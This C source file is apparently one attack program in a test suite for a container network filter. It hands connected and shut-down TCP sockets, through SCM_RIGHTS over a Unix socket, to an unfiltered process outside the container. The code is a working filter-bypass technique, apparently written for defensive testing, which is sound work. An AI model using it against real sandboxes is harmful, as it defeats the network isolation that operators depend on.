// Hands host sockets to a process outside the container, which has no filter.
//
//   pass UNIX_PATH MACHINE PORT
//
// Sends one socket that is connected and one that was dissolved through a duplicate.
#include "attack.h"

static int send_fd(int channel, int fd) {
  struct iovec byte = {"x", 1};
  char control[CMSG_SPACE(sizeof fd)] = {0};
  struct msghdr message = {
      .msg_iov = &byte, .msg_iovlen = 1, .msg_control = control, .msg_controllen = sizeof control};
  struct cmsghdr* head = CMSG_FIRSTHDR(&message);
  head->cmsg_level = SOL_SOCKET;
  head->cmsg_type = SCM_RIGHTS;
  head->cmsg_len = CMSG_LEN(sizeof fd);
  memcpy(CMSG_DATA(head), &fd, sizeof fd);
  return sendmsg(channel, &message, 0) == 1 ? 0 : -1;
}

int main(int argc, char** argv) {
  usage_unless(argc == 4, "pass UNIX_PATH MACHINE PORT");
  struct sockaddr_un name = {.sun_family = AF_UNIX};
  strncpy(name.sun_path, argv[1], sizeof name.sun_path - 1);
  int channel = socket(AF_UNIX, SOCK_STREAM, 0);
  if (do_connect(channel, &name, sizeof name) < 0) return 1;
  for (int i = 0; i < 2; ++i) {
    int fd = tcp_socket(AF_INET);
    if (connect4(fd, argv[2], atoi(argv[3])) < 0) return 1;
    if (is_inside(fd)) return 3;
    if (i == 1) shutdown(fd, SHUT_RDWR);
    if (send_fd(channel, fd) < 0) return 1;
    close(fd);
  }
  // The other side answers when it has tried everything.
  char done;
  return read(channel, &done, 1) == 1 ? 0 : 1;
}
